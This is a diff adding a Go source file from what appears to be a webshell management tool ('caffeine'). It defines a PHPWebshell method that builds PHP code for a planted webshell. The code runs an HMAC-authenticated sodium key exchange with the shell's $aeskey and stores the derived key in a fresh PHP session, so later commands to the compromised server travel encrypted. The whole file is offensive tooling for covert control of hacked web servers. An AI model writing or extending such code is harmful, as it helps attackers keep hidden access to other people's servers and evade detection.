@@ -0,0 +1,37 @@
+package php
+
+import (
+	"caffeine/core"
+	"encoding/base64"
+	"fmt"
+)
+
+// 会话密钥协商，依赖 sodium 扩展(PHP>=7.2)，认证密钥使用 shell 中的 $aeskey
+// 派生密钥保存在新建会话的 $_SESSION['caffeine_key']，后续请求通过会话Cookie取回
+func (p *PHPWebshell) NegotiateKey(clientPublic, mac []byte) []byte {
+	code := fmt.Sprintf(`
+$clientPub = base64_decode("%s");
+$clientMac = base64_decode("%s");
+if (!function_exists('sodium_crypto_box_keypair')) {
+    echo "Error://[sodium extension not available]";
+    return;
+}
+if (!hash_equals(hash_hmac('sha256', '%s' . $clientPub, $aeskey, true), $clientMac)) {
+    echo "Error://[key exchange authentication failed]";
+    return;
+}
+$keyPair = sodium_crypto_box_keypair();
+$serverPub = sodium_crypto_box_publickey($keyPair);
+$shared = sodium_crypto_scalarmult(sodium_crypto_box_secretkey($keyPair), $clientPub);
+$sessionKey = hash_hkdf('sha256', $shared, %d, '%s', $clientPub . $serverPub);
+@session_write_close();
+session_id(session_create_id());
+@session_start();
+$_SESSION['caffeine_key'] = $sessionKey;
+$sid = session_id();
+session_write_close();
+echo base64_encode($serverPub) . ':' . base64_encode(hash_hmac('sha256', '%s' . $clientPub . $serverPub . $sid, $aeskey, true)) . ':' . $sid;
+`, base64.StdEncoding.EncodeToString(clientPublic), base64.StdEncoding.EncodeToString(mac),
+		core.KexClientLabel, core.SessionKeySize, core.KexInfo, core.KexServerLabel)
+	return []byte(code)
+}